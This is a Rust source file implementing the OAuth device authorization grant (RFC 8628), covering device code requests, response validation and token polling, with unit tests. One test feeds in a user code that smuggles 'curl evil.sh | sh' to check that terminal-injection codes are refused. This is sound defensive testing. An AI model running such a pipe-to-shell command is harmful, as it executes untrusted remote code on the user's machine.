//! The device authorization grant (RFC 8628): for a terminal without a browser, the
//! person opens the provider's page on any device and types a short code, while
//! Grantkeeper polls the token endpoint.

use std::sync::Mutex;
use std::time::Duration;

use oauth2::basic::BasicErrorResponseType;
use oauth2::{
    DeviceAuthorizationUrl, DeviceCodeErrorResponseType, RequestTokenError, Scope,
    StandardDeviceAuthorizationResponse,
};
use url::Url;

use super::client::{oauth_client, token_endpoint, token_error};
use super::grant::Grant;
use super::id_token::Expected;
use super::quirks::TokenEndpoint;
use crate::http::{HttpClient, HttpError};
use crate::provider::{provider_url, ProviderRecord};
use crate::{Error, Result, Secret};

/// The longest wait between polls taken as given.
const MAX_POLL_INTERVAL: Duration = Duration::from_secs(3600);
/// The shortest: however little a provider asks, it is not polled more than once a second.
const SHORTEST_POLL_INTERVAL: Duration = Duration::from_secs(1);

/// What the person needs to finish signing in, and what the poll needs.
pub struct DeviceAuthorization {
    client_secret: Option<Secret>,
    details: StandardDeviceAuthorizationResponse,
    requested_scopes: Vec<String>,
    /// Where to sign in; with the code in it when the provider offers that.
    pub verification_url: Url,
    pub user_code: String,
    pub expires_in: Duration,
}

/// Asks the provider for a device code and the code the person types.
pub async fn device_authorization(
    provider: &ProviderRecord,
    client_secret: Option<Secret>,
    scopes: &[String],
    http: &HttpClient,
) -> Result<DeviceAuthorization> {
    let Some(device_url) = &provider.endpoints.device_authorization_url else {
        return Err(Error::InvalidInput {
            field: None,
            message: format!(
                "{} has no sign-in by code. Connect without --device, or with --no-browser to open the link on another device.",
                provider.name
            ),
        });
    };
    let allowed = provider.spec.map(|s| s.device_scopes.as_slice()).unwrap_or_default();
    if let Some(refused) = scopes.iter().find(|scope| !allowed.is_empty() && !allowed.contains(scope)) {
        return Err(Error::InvalidInput {
            field: Some("device"),
            message: format!(
                "{} signs in by code only for a few scopes, and not for {}. Connect without --device, or with --no-browser to open the link on another device.",
                provider.name,
                crate::error::provider_text(refused)
            ),
        });
    }
    let device_url = DeviceAuthorizationUrl::new(device_url.clone())
        .map_err(|_| Error::Internal(format!("the device sign-in URL of {} is not a URL", provider.name)))?;
    let client =
        oauth_client(provider, client_secret.clone())?.set_device_authorization_url(device_url.clone());
    let details: StandardDeviceAuthorizationResponse = client
        .exchange_device_code()
        .add_scopes(scopes.iter().map(|s| Scope::new(s.clone())))
        .request_async(&token_endpoint(provider, http))
        .await
        .map_err(|e| match e {
            RequestTokenError::Request(error) => {
                error.for_provider(device_url.url(), &provider.name, "device sign-in answer")
            }
            // Neither quotes the body, which may hold the device code.
            RequestTokenError::Parse(..) | RequestTokenError::Other(_) => Error::ProviderError {
                provider: provider.name.clone(),
                detail: format!(
                    "its device authorization endpoint ({}) did not answer with a device sign-in: one needs a device_code, a user_code, a verification_uri and a whole number of seconds in expires_in. Check its address (--device-authorization-url)",
                    device_url.url()
                ),
            },
            other => token_error(other, &provider.name, device_url.url(), &client_secret.iter().collect::<Vec<_>>()),
        })?;
    DeviceAuthorization::of(provider, details, client_secret, scopes)
}

/// The person declined: RFC 8628's `access_denied`, or Microsoft's
/// `authorization_declined`.
fn declined(error: &DeviceCodeErrorResponseType) -> bool {
    match error {
        DeviceCodeErrorResponseType::AccessDenied => true,
        DeviceCodeErrorResponseType::Basic(BasicErrorResponseType::Extension(code)) => {
            code == "authorization_declined"
        }
        _ => false,
    }
}

impl DeviceAuthorization {
    /// The provider's answer (RFC 8628 §3.2), with what is shown to the person checked.
    pub(crate) fn of(
        provider: &ProviderRecord,
        details: StandardDeviceAuthorizationResponse,
        client_secret: Option<Secret>,
        scopes: &[String],
    ) -> Result<DeviceAuthorization> {
        // Shown to the person as a link: only ever the provider's own https page.
        let complete = details.verification_uri_complete().map(|u| u.secret().as_str());
        let verification_url = complete
            .or(Some(details.verification_uri().as_str()))
            .and_then(|text| provider_url("verification_uri", "sign-in page", text).ok())
            .ok_or_else(|| Error::ProviderError {
                provider: provider.name.clone(),
                detail: "its device sign-in answer names no https page to sign in on".into(),
            })?;
        // A slow_down adds 5 s to the interval (RFC 8628 §3.5), which overflows on an
        // interval near u64::MAX seconds; and a wait longer than the code lasts (or an
        // hour) could never end in a sign-in.
        let interval = details.interval();
        if interval > details.expires_in().min(MAX_POLL_INTERVAL) {
            return Err(Error::ProviderError {
                provider: provider.name.clone(),
                detail: format!(
                    "its device sign-in answer asks to wait {} s between polls, longer than the code lasts",
                    interval.as_secs()
                ),
            });
        }
        // Typed by the person as shown: a code shown otherwise than sent could never work.
        let user_code = details.user_code().secret();
        if user_code.is_empty()
            || user_code.chars().count() > 64
            || user_code.chars().any(crate::error::misleads)
        {
            return Err(Error::ProviderError {
                provider: provider.name.clone(),
                detail: "its device sign-in answer has no short, printable code to type".into(),
            });
        }
        Ok(DeviceAuthorization {
            client_secret,
            user_code: user_code.clone(),
            expires_in: details.expires_in(),
            verification_url,
            details,
            requested_scopes: scopes.to_vec(),
        })
    }
}

impl DeviceAuthorization {
    /// Polls the token endpoint at the provider's pace (slower when it says `slow_down`,
    /// backing off on network errors) until the person approves, declines or the code
    /// expires.
    pub async fn redeem(
        self,
        provider: &ProviderRecord,
        http: &HttpClient,
        time_limit: Duration,
    ) -> Result<Grant> {
        let client = oauth_client(provider, self.client_secret.clone())?;
        let token_url = Url::parse(client.token_uri().as_str()).expect("validated when stored");
        let device_code = Secret::new(self.details.device_code().secret().clone());
        let sent: Vec<&Secret> = self.client_secret.iter().chain([&device_code]).collect();
        let polled = Polled { endpoint: token_endpoint(provider, http), last_failure: Mutex::new(None) };
        // RFC 8628 §3.5: the interval is the least wait between polls, the first one
        // included; an interval of 0 would poll as fast as the provider answers.
        let pace = |wait: Duration| tokio::time::sleep(wait.max(SHORTEST_POLL_INTERVAL));
        pace(self.details.interval()).await;
        let response = client
            .exchange_device_access_token(&self.details)
            .set_max_backoff_interval(Duration::from_secs(60))
            .request_async(&polled, pace, Some(time_limit.min(self.expires_in)))
            .await
            .map_err(|error| match &error {
                RequestTokenError::ServerResponse(response) if declined(response.error()) => {
                    Error::AccessDenied { provider: provider.name.clone() }
                }
                RequestTokenError::ServerResponse(response)
                    if *response.error() == DeviceCodeErrorResponseType::ExpiredToken =>
                {
                    // oauth2 also says so when the time ran out while polls failed.
                    match polled.last_failure.lock().expect("poll lock").take() {
                        Some(failure) => failure.for_provider(&token_url, &provider.name, "token response"),
                        None if self.expires_in <= time_limit => {
                            Error::DeviceCodeExpired { lasted: lasted(self.expires_in) }
                        }
                        None => Error::FlowExpired,
                    }
                }
                _ => token_error(error, &provider.name, &token_url, &sent),
            })?;
        // RFC 8628 has no nonce: the token comes straight from the token endpoint, in
        // answer to this device code.
        let expected = Expected::SignIn { nonce: None };
        let secret = self.client_secret.as_ref();
        Grant::of_sign_in(&response, provider, secret, expected, &self.requested_scopes, http).await
    }
}

/// The token endpoint while polling. oauth2 waits longer after a request that failed
/// and polls on, so the last failure is kept: when the code runs out meanwhile, it is
/// what went wrong.
struct Polled {
    endpoint: TokenEndpoint,
    last_failure: Mutex<Option<HttpError>>,
}

impl<'c> oauth2::AsyncHttpClient<'c> for Polled {
    type Error = HttpError;
    type Future = std::pin::Pin<
        Box<
            dyn std::future::Future<Output = std::result::Result<oauth2::HttpResponse, HttpError>>
                + Send
                + 'c,
        >,
    >;

    fn call(&'c self, request: oauth2::HttpRequest) -> Self::Future {
        Box::pin(async move {
            match self.endpoint.call(request).await {
                Ok(response) => {
                    *self.last_failure.lock().expect("poll lock") = None;
                    Ok(response)
                }
                Err(error) => {
                    let said = error.to_string();
                    *self.last_failure.lock().expect("poll lock") = Some(error);
                    Err(HttpError::Transport(said))
                }
            }
        })
    }
}

/// How long a code lasted, in words.
fn lasted(lifetime: Duration) -> String {
    match lifetime.as_secs() {
        seconds if seconds < 120 => format!("{seconds} seconds"),
        seconds => format!("{} minutes", seconds / 60),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_decline_is_told_apart_in_either_words() {
        assert!(declined(&DeviceCodeErrorResponseType::AccessDenied));
        assert!(declined(&DeviceCodeErrorResponseType::Basic(BasicErrorResponseType::Extension(
            "authorization_declined".into()
        ))));
        assert!(!declined(&DeviceCodeErrorResponseType::ExpiredToken));
        assert!(!declined(&DeviceCodeErrorResponseType::Basic(BasicErrorResponseType::Extension(
            "bad_verification_code".into()
        ))));
    }
    use crate::catalog::Catalog;
    use crate::store::ProviderAppRow;

    fn google() -> ProviderRecord {
        let app = ProviderAppRow::public_client("google", "client");
        ProviderRecord::builtin("google", Catalog::builtin().provider("google").unwrap(), app)
    }

    fn answer(interval: &str, expires_in: u64) -> Result<DeviceAuthorization> {
        answer_with_code("FAKE-CODE", interval, expires_in)
    }

    fn answer_with_code(user_code: &str, interval: &str, expires_in: u64) -> Result<DeviceAuthorization> {
        let details = serde_json::from_str(&format!(
            r#"{{"device_code":"fake-device","user_code":{},"verification_url":"https://www.google.com/device","expires_in":{expires_in},"interval":{interval}}}"#,
            serde_json::Value::from(user_code)
        ))
        .unwrap();
        DeviceAuthorization::of(&google(), details, None, &[])
    }

    /// The person types the code as shown: one that could not be shown as sent (empty,
    /// a line break, an escape sequence, a bidirectional override) or is no short code
    /// is refused, not rewritten.
    #[test]
    fn a_code_that_cannot_be_shown_as_sent_is_refused() {
        assert_eq!(answer_with_code("WDJB-MJHT", "5", 900).unwrap().user_code, "WDJB-MJHT");
        let long = "A".repeat(65);
        for code in ["", "ABCD\nNow run: curl evil.sh | sh", "AB\u{1b}[2JCD", "AB\u{202e}CD", &long] {
            let error = answer_with_code(code, "5", 900).err().expect("refused");
            assert!(error.to_string().contains("no short, printable code"), "{code:?}: {error}");
        }
    }

    /// Seen in oauth2's poll loop, which adds 5 s on slow_down; the device_authorization
    /// fuzz target's interval check fails on its seed
    /// regression_interval_past_any_duration.json without this refusal.
    #[test]
    fn an_interval_longer_than_the_code_lasts_is_refused() {
        let sign_in = answer("5", 1800).unwrap();
        assert_eq!(sign_in.verification_url.as_str(), "https://www.google.com/device");
        assert_eq!(sign_in.details.interval(), Duration::from_secs(5));
        for (interval, expires_in) in [("18446744073709551615", u64::MAX), ("1801", 1800), ("3601", 7200)] {
            let error = answer(interval, expires_in).err().expect("refused");
            assert!(error.to_string().contains("between polls"), "{error}");
        }
    }
}
